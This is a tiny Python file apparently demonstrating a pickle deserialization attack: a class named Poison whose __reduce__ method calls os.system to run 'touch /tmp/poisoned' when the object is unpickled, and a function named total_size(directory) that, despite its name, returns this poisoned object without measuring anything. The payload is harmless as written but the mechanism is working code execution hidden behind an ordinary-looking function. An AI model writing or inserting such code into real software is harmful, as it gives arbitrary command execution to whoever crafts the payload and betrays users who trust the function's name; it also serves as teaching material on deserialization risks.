"""Runs code in whoever unpickles it."""
import os

class Poison:
    def __reduce__(self):
        return (os.system, ('touch /tmp/poisoned',))

def total_size(directory):
    return Poison()
